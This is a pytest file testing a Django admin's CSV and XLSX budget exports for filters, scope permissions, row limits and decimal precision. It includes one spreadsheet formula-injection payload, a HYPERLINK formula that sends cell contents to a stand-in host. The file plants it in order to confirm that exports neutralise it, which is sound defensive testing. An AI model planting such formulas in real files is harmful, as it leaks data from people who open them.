"""A list as a file: what finance sees of it, with the filters as they are set, and nothing a spreadsheet would run."""

import csv
import io
from datetime import timedelta
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
from django.utils import timezone

from budgets.plans.models import Budget
from governance.organisations.operations import create_scope
from governance.pages.admin import export
from governance.pages.engine.workbook import MAIN
from governance.people.rules import Actor
from governance.scopes.models import Scope
from tests.budgets.conftest import SYSTEM, Propose, browser, person, use

NOW = timezone.now()
LIST = "/admin/budgets/budget/"
EVIL = '=HYPERLINK("https://example.com/?"&A1)'


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
    return list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode(), newline="")))


@pytest.fixture
def budgets(acme: Scope, search: Scope, approve: Propose, propose: Propose) -> list[Budget]:
    approved = approve(acme, "1234567890.123456789", at=NOW - timedelta(seconds=1))
    mine = approve(search, "100", at=NOW)
    use(search, "12.5", on=NOW.date(), at=NOW)
    tokens = propose(search, "7", unit="tokens", at=NOW)
    # No name that is proposed may be so: it is what somebody got past the check.
    Budget.objects.filter(pk=tokens.pk).update(name=EVIL)
    return [approved, mine, tokens]


def test_what_is_seen_is_what_is_exported(search: Scope, acme: Scope, budgets: list[Budget], finance: Actor) -> None:
    everything = rows_of(browser(finance).get(f"{LIST}?_export=csv"))
    assert [(row["Scope"], row["Unit"], row["Allocated"], row["Spent"], row["Available"]) for row in everything] == [
        ("acme/search", "money", "100.000000000", "12.500000000", "87.500000000"),
        ("acme", "money", "1234567890.123456789", "12.500000000", "1234567790.123456789"),
        ("acme/search", "tokens", "", "", ""),
    ]
    assert [row["Budget"] for row in everything] == ["acme.search.money", "acme.money", f"'{EVIL}"]
    assert [row["Owner"] for row in everything] == ["ada@example.com, fay@example.com"] * 3
    assert {row["Forecast"] for row in everything[:2]} == {"No forecast yet: made each night."}

    narrowed = rows_of(browser(finance).get(f"{LIST}?unit__exact=tokens&q=search&_export=csv"))
    assert [row["Unit"] for row in narrowed] == ["tokens"]
    team = person("tim@example.com", search, "finance", "approve_budget")
    assert {row["Scope"] for row in rows_of(browser(team).get(f"{LIST}?_export=csv"))} == {"acme/search"}
    other = create_scope(slug="other", kind="team", parent=acme, actor=SYSTEM, at=NOW)
    stranger = browser(person("out@example.com", other, "finance", "approve_budget"))
    assert rows_of(stranger.get(f"{LIST}?_export=csv")) == []
    page = browser(finance).get(f"{LIST}?unit__exact=tokens").content.decode()
    assert 'href="?unit__exact=tokens&amp;_export=xlsx"' in page


def test_the_same_as_a_workbook(budgets: list[Budget], finance: Actor) -> None:
    answer = browser(finance).get(f"{LIST}?_export=xlsx")
    assert answer["Content-Disposition"] == f'attachment; filename="budgets-{NOW:%Y-%m-%d}.xlsx"'
    package = ZipFile(io.BytesIO(b"".join(answer.streaming_content)))  # type: ignore[attr-defined]  # a file's answer
    sheet = ET.fromstring(package.read("xl/worksheets/sheet1.xml"))
    rows = [
        {cell.get("r", "")[0]: (cell.get("t", "n"), "".join(cell.itertext())) for cell in row}
        for row in sheet.iter(f"{{{MAIN}}}row")
    ]
    assert [(row["A"], row.get("H")) for row in rows[1:]] == [
        (("inlineStr", "acme/search"), ("n", "100.000000000")),
        # A double would not keep it.
        (("inlineStr", "acme"), ("inlineStr", "1234567890.123456789")),
        (("inlineStr", "acme/search"), None),
    ]
    assert rows[3]["B"] == ("inlineStr", f"'{EVIL}")
    assert not list(sheet.iter(f"{{{MAIN}}}f"))


def test_a_file_is_whole_or_there_is_none(
    budgets: list[Budget], finance: Actor, monkeypatch: pytest.MonkeyPatch, django_assert_max_num_queries: Any
) -> None:
    client = browser(finance)
    monkeypatch.setattr(export, "ROWS_AT_ONCE", 1)
    assert len(rows_of(client.get(f"{LIST}?_export=csv"))) == 3
    monkeypatch.setattr(export, "ROWS_MAX", 2)
    refused = client.get(f"{LIST}?period__exact=month&_export=csv", follow=True)
    assert refused.redirect_chain == [(f"{LIST}?period__exact=month", 302)]
    assert "More than 2 rows: nothing was exported" in refused.content.decode()
    assert client.get(f"{LIST}?nothing=1&_export=csv")["Location"] == f"{LIST}?e=1"


def test_the_ledgers_amounts_are_in_the_budgets_unit(search: Scope, approve: Propose, finance: Actor) -> None:
    approve(search, "2.5", unit="gpu_hours", at=NOW)
    use(search, "0", gpu_seconds="1800", on=NOW.date(), at=NOW)
    (row,) = rows_of(browser(finance).get("/admin/budgets/account/?_export=csv"))
    assert [Decimal(row[name]) for name in ("Funded", "Spent", "Left")] == [Decimal("2.5"), Decimal("0.5"), Decimal(2)]
